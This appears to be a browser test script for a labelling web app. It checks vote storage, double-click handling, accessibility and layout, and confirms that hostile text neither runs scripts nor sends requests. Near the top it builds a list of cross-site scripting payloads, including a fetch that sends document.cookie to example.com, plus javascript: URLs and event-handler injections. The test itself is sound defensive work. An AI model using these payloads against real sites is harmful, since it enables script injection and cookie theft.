r"""Label in a real browser, with hostile text, and look at the labelling pages.

Two labelers work at once, by keyboard and by mouse, on items of which they share some. Both reload in the middle. Every
vote must be stored as it was given: order, ties, ratings, flags and note. Prompts, answers, notes and instructions hold
payloads that try to run a script or to load something: no dialog may open, no request may leave the server, and the
content security policy must have nothing to refuse. A labeler behind a slow line clicks again while the page is busy:
nothing may be sent or stored twice. Then pages with realistic items are opened 1280 and 400 pixels
wide, light and dark; axe-core must find no serious fault, and nothing may scroll sideways. The project has no browser;
the environment is that of report_screenshots.py, with align beside it:

    .venv-browser/bin/python benchmarks/label_pages.py --axe package/axe.min.js --folder screenshots

Chromium is the one on the PATH, else playwright's own.
"""

from __future__ import annotations

import argparse
import itertools
import json
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

ROOT = Path(__file__).parents[1]
PYTHON = ROOT / ".venv/bin/python"
_SIDEWAYS = "document.documentElement.scrollWidth - innerWidth"
_AXE = "axe.run(document, {resultTypes: ['violations']})"
_CALLS = ("alert(1)", "fetch('//example.com/'+document.cookie)", "location='//example.com'")
_TAGS = (
    "<script>{0}</script>",
    "<ScRiPt >{0}</sCrIpT>",
    "<script src=//example.com/x.js></script>",
    "<img src=x onerror={0}>",
    "<img src=//example.com/x.png>",
    "<svg onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<svg><a xlink:href='javascript:{0}'><text y=20>x</text></a></svg>",
    "<math><mtext><style><img src=x onerror={0}></style></mtext></math>",
    "<iframe srcdoc='<script>{0}</script>'></iframe>",
    "<iframe src='javascript:{0}'></iframe>",
    "<object data='javascript:{0}'></object>",
    "<embed src='javascript:{0}'>",
    "<link rel=stylesheet href=//example.com/x.css>",
    "<style>@import '//example.com/x.css';</style>",
    "<body onload={0}>",
    "<input autofocus onfocus={0}>",
    "<details open ontoggle={0}>x</details>",
    "<video><source onerror={0}></video>",
    "<audio src=x onerror={0}>",
    "<marquee onstart={0}>x</marquee>",
    "<a href='javascript:{0}'>x</a>",
    "<form action='javascript:{0}'><button>x</button></form>",
    "<base href='//example.com/'>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'></noscript>",
    "<table background='javascript:{0}'>",
    "<x contenteditable onblur={0}>x</x>",
    "<template><script>{0}</script></template>",
    "<style>*{{background:url(//example.com/x)}}</style>",
)
_AROUND = ("{0}", '">{0}', "'>{0}", "</textarea>{0}", "</title>{0}", "</script>{0}", "-->{0}", "]]>{0}")
_PLAIN = (
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "{% raw %}{{7*7}}{% endraw %}",
    "javascript:alert(1)",
    "[x](javascript:alert(1))",
    "![x](//example.com/x.png)",
    "a\u202eb\u2066c\u2069d",
    "zero\u200bwidth\ufeffjoin\u200d",
    "\u2028line\u2029paragraph",
    "tab\tand\nline\r\nends",
    "\x00\x01\x1b[31mred",
    "&lt;b&gt; &amp;#x3c;script&#62;",
)


def payloads() -> list[str]:
    made = [around.format(tag.format(call)) for tag, call, around in itertools.product(_TAGS, _CALLS[:1], _AROUND)]
    made += [tag.format(call) for tag, call in itertools.product(_TAGS, _CALLS[1:])]
    return [*dict.fromkeys(made), *_PLAIN]


def realistic() -> list[dict[str, Any]]:
    """Items as labelers see them: turns, code, lists, long lines, text from right to left, invisible characters."""
    code = "def mean(values):\n    if not values:\n        raise ValueError\n    return sum(values) / len(values)"
    turns = [
        {"role": "system", "content": "You help beginners with Python. Be short."},
        {"role": "user", "content": "How do I take the mean of a list?"},
        {"role": "assistant", "content": "Add the values and divide by how many there are."},
        {"role": "user", "content": "Show me the code, and tell me what happens with an empty list."},
    ]
    answers = [
        f"{code}\n\nAn empty list gives a ZeroDivisionError, because its length is 0.",
        "Use statistics.mean(values).\n\n1. It is in the standard library.\n2. An empty list gives a StatisticsError.",
        "Just use sum(values) / len(values)." + " It is easy!" * 30,
        "I do not know\u200b. See https://docs.example/" + "a" * 150 + "\u202e and \u05e9\u05dc\u05d5\u05dd",
    ]
    return [
        {"prompt": turns, "responses": [f"{text}{' ' * i}" for text in answers]}  # each item is another one
        for i in range(4)
    ]


@contextmanager
def server(
    folder: Path, rows: list[dict[str, Any]], instructions: str, share: str
) -> Iterator[tuple[str, dict[str, str]]]:
    """A page over some items, of which two labelers share some; its address, and tokens by name."""
    folder.mkdir(parents=True)
    file = folder / "rows.jsonl"
    file.write_text("".join(json.dumps(row) + "\n" for row in rows))
    (folder / "instructions.txt").write_text(instructions)

    def align(*words: str) -> str:
        command = [PYTHON, "-m", "align", "label", *words, "--store", folder / "store"]
        return subprocess.run(command, check=True, capture_output=True, text=True, cwd=ROOT).stdout

    align("create", "mine", "--overlap-share", share, "--instructions", str(folder / "instructions.txt"))
    align("add", "mine", f"path:{file}")
    tokens = {name: align("token", "mine", name).splitlines()[-1].lstrip("#") for name in ("ada", "ben")}
    tokens["boss"] = align("token", "mine", "boss", "--admin").splitlines()[-1].partition("#")[2]
    command = [PYTHON, "-m", "align", "label", "serve", "mine", "--port", "0", "--store", folder / "store"]
    process = subprocess.Popen(command, stdout=subprocess.PIPE, text=True, cwd=ROOT)
    assert process.stdout is not None
    try:
        yield process.stdout.readline().strip(), tokens
    finally:
        process.terminate()
        process.wait()


class Watched:
    """A browser page that notes dialogs, script errors, what the policy refuses, and requests that leave the server."""

    def __init__(self, browser: Any, url: str, token: str, found: list[str], **options: Any):
        self.context = browser.new_context(**{"viewport": {"width": 1280, "height": 900}, **options})
        self.page = self.context.new_page()
        self.page.on("dialog", lambda dialog: (found.append(f"dialog: {dialog.message}"), dialog.dismiss()))
        self.page.on("pageerror", lambda error: found.append(f"script: {error}"))
        self.page.on("request", lambda r: r.url.startswith(url) or found.append(f"it loads {r.url[:80]}"))
        self.page.on("console", lambda said: "Policy" in said.text and found.append(f"policy: {said.text[:120]}"))
        self.page.goto(f"{url}#{token}")
        self.found = found
        self.given: list[dict[str, Any]] = []
        self.cards = self.page.locator("#answers > li")
        self.status = self.page.locator("#status")

    def seen(self) -> dict[str, Any]:
        """The vote that the page shows, in the order of the item's row."""
        return self.page.evaluate(_SEEN)

    def reload(self) -> None:
        """Reload the page: nothing of the draft may change."""
        from playwright.sync_api import expect

        before = self.seen()
        self.page.reload()
        expect(self.cards.first).to_be_visible()
        if self.seen() != before:
            self.found.append(f"a draft changed when the page was reloaded: {before}, {self.seen()}")


_SEEN = """() => {
  const cards = [...document.querySelectorAll('#answers > li')].sort((a, b) => a.dataset.place - b.dataset.place);
  return {
    ranks: cards.map((card) => Number(card.querySelector('.rank').textContent)),
    ratings: cards.map((card) => Number(card.querySelector('input[type=radio]:checked')?.value ?? 0)),
    flags: cards.map((card) => [...card.querySelectorAll('.flag')].filter((each) => each.querySelector('input').checked)
      .map((each) => each.textContent.trim()).sort()),
    note: document.querySelector('#note').value,
  };
}"""


def rank_by_keyboard(labeler: Watched) -> None:
    """Rate with digits, sort, then move and tie with letters."""
    from playwright.sync_api import expect

    keys = labeler.page.keyboard
    labeler.cards.first.focus()
    for digit in "5731":
        keys.press(digit)
        keys.press("ArrowDown")
    keys.press("o")
    expect(labeler.status).to_contain_text("Sorted")
    labeler.cards.last.focus()
    keys.press("k")
    if len(labeler.given) % 2:
        keys.press("t")
    labeler.reload()
    labeler.given.append(labeler.seen())
    keys.press("Control+Enter")
    expect(labeler.status).to_have_text("Sent.")


def rank_by_mouse(labeler: Watched) -> None:
    """Rate with the radio buttons, drag the last answer to the top, tie the second with it."""
    from playwright.sync_api import expect

    for card, value in zip(labeler.cards.all(), (3, 4, 2, 6), strict=True):
        card.locator(f"input[value='{value}']").check()
    last, first = labeler.cards.nth(3), labeler.cards.nth(0)
    last.locator(".handle").scroll_into_view_if_needed()
    handle = last.locator(".handle").bounding_box()
    labeler.page.mouse.move(handle["x"] + 5, handle["y"] + 5)
    labeler.page.mouse.down()
    for _ in range(40):  # up to the first one, scrolling where it is out of sight
        first.scroll_into_view_if_needed()
        box = first.bounding_box()
        labeler.page.mouse.move(box["x"] + 40, box["y"] + 10, steps=4)
        if "place 1" in (labeler.page.locator(".dragged").get_attribute("aria-label") or ""):
            break
    labeler.page.mouse.up()
    labeler.cards.nth(1).get_by_role("button", name="Tie").click()
    labeler.cards.nth(0).locator("summary").click()
    labeler.cards.nth(0).locator("input[type=checkbox]").nth(2).check()
    labeler.page.fill("#note", "<img src=x onerror=alert('note')>")
    labeler.reload()
    labeler.given.append(labeler.seen())
    labeler.page.click("#send")
    expect(labeler.status).to_have_text("Sent.")


def click_again(labeler: Watched, button: str, path: str) -> None:
    """Click again in each moment in which the page waits; note it if not exactly one request is sent."""
    sent: list[Any] = []
    labeler.page.on("request", lambda request: request.url.endswith(path) and sent.append(request))
    with labeler.page.expect_request("**/api/next"):
        labeler.page.dblclick(button)
    with labeler.page.expect_request("**/api/me"):
        labeler.page.click(button)
    labeler.page.keyboard.press("Control+Enter")  # sends, too; the next item has no ratings yet
    labeler.page.wait_for_timeout(5 * _SLOW_MS)  # until all answers are here
    if len(sent) != 1:
        labeler.found.append(f"{button} clicked again: {len(sent)} requests to {path}")


def impatient(browser: Any, folder: Path, found: list[str]) -> int:
    """Rank all items and take one back, with more clicks than needed; return how many votes were given."""
    with server(folder, realistic(), "", "0") as (url, tokens):
        labeler = Watched(browser, url, tokens["ada"], found)
        labeler.cards.first.wait_for()
        labeler.page.evaluate(_SLOW)
        for turn in range(5):  # the third item is taken back and ranked again
            for card in labeler.cards.all():
                card.locator("input[value='4']").check()
            labeler.page.click("#sort")
            labeler.given.append(labeler.seen())
            click_again(labeler, "#send", "/api/vote")
            if turn == 2:
                click_again(labeler, "#undo", "/api/undo")
                labeler.given.pop()
        compare(folder, {"ada": labeler.given}, found)
        rows = int(subprocess.check_output([PYTHON, "-c", _LOGGED, str(folder)], cwd=ROOT, text=True))
        if rows != 6:
            found.append(f"5 votes and one taken back are {rows} rows of the log")
        labeler.context.close()
        return len(labeler.given)


_SLOW_MS = 200
_SLOW = f"""() => {{
  const ask = window.fetch;
  window.fetch = async (...given) => {{
    const answer = await ask(...given);
    await new Promise((go) => setTimeout(go, {_SLOW_MS}));
    return answer;
  }};
}}"""
_LOGGED = """
import sys
from pathlib import Path
from align.labelling.database import Votes
print(Votes(Path(sys.argv[1]) / "store/labels/mine.db").counts()["last"])
"""


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--axe", type=Path, metavar="axe.min.js")
    parser.add_argument("--folder", type=Path, help="for screenshots")
    options = parser.parse_args()
    from playwright.sync_api import expect, sync_playwright

    found: list[str] = []
    texts = payloads()
    rows = [{"prompt": texts[i], "responses": texts[i + 1 : i + 5]} for i in range(0, len(texts) - 4, 5)]
    with tempfile.TemporaryDirectory() as kept, sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=shutil.which("chromium"), args=["--no-sandbox"])
        folder = Path(kept)
        with server(folder / "hostile", rows, "Be fair. <script>alert('instructions')</script>", "0.5") as (
            url,
            tokens,
        ):
            both = {name: Watched(browser, url, tokens[name], found) for name in ("ada", "ben")}
            ways = (("ada", rank_by_keyboard), ("ben", rank_by_mouse))
            left = dict(ways)
            for name, rank in itertools.cycle(ways):  # while one ranks, the other has an item open
                labeler = both[name]
                expect(labeler.cards.first.or_(labeler.page.locator("#nothing:not([hidden])"))).to_be_visible()
                if labeler.page.locator("#nothing").is_visible():
                    left.pop(name, None)
                elif name in left:
                    rank(labeler)
                if not left:
                    break
            shared = compare(folder / "hostile", {name: labeler.given for name, labeler in both.items()}, found)
        again = impatient(browser, folder / "impatient", found)
        with server(folder / "real", realistic(), "Which answer helps a beginner most?", "1") as (url, tokens):
            found += looks(browser, url, tokens, options)
        browser.close()
    for line in found:
        print(line)
    given = sum(len(labeler.given) for labeler in both.values())
    print(
        f"{len(texts)} payloads; {given} votes by mouse and keyboard, {shared} items by both;"
        f" {again} votes clicked again; {len(found)} faults"
    )
    return int(bool(found))


def compare(folder: Path, given: dict[str, list[dict[str, Any]]], found: list[str]) -> int:
    """Note every vote that is not stored as it was given; return how many items both ranked."""
    votes = json.loads(subprocess.check_output([PYTHON, "-c", _STORED, str(folder)], cwd=ROOT, text=True))
    for name, own in given.items():
        stored = [vote["content"] for vote in votes if vote["labeler"] == name]
        if len(own) != len(stored):
            found.append(f"{name} gave {len(own)} votes, {len(stored)} are stored")
        for number, (one, two) in enumerate(zip(own, stored, strict=False)):
            if differing := [field for field in one if one[field] != two[field]]:
                found.append(f"{name}'s vote {number}: {differing}: given {one}, stored {two}")
    return len(votes) - len({vote["item"] for vote in votes})


_STORED = """
import json, sys
from pathlib import Path
from align.labelling.database import Votes
kept = ("item", "labeler", "content")
votes = Votes(Path(sys.argv[1]) / "store/labels/mine.db").rankings()
print(json.dumps([{name: vote[name] for name in kept} for vote in votes]))
"""


def looks(browser: Any, url: str, tokens: dict[str, str], options: argparse.Namespace) -> list[str]:
    """Open each page in each width and scheme; return what is wrong with it."""
    found: list[str] = []
    pages = {"label": (url, tokens["ada"]), "admin": (f"{url}admin", tokens["boss"])}
    for name in ("ada", "ben"):  # so that the report has something to show
        labeler = Watched(browser, url, tokens[name], found)
        for _ in range(3):
            labeler.cards.first.wait_for()
            (rank_by_keyboard if name == "ada" else rank_by_mouse)(labeler)
    for (name, (address, token)), width, scheme in itertools.product(pages.items(), (1280, 400), ("light", "dark")):
        context = browser.new_context(
            viewport={"width": width, "height": 900}, color_scheme=scheme, bypass_csp=options.axe is not None
        )
        page = context.new_page()
        page.goto(f"{address}#{token}")
        page.wait_for_selector("#answers > li" if name == "label" else "#report:not([hidden])")
        at = f"{name}, {width}, {scheme}"
        if (over := page.evaluate(_SIDEWAYS)) > 0:
            found.append(f"{at}: it scrolls sideways by {over} pixels")
        if options.axe:
            page.evaluate(options.axe.read_text())
            for violation in page.evaluate(_AXE)["violations"]:
                if violation["impact"] in ("serious", "critical"):
                    found.append(f"{at}: axe: {violation['id']}: {violation['nodes'][0]['html'][:120]}")
        if options.folder:
            options.folder.mkdir(parents=True, exist_ok=True)
            page.screenshot(path=options.folder / f"{name}-{width}-{scheme}.png", full_page=True)
        context.close()
    return found


if __name__ == "__main__":
    sys.exit(main())
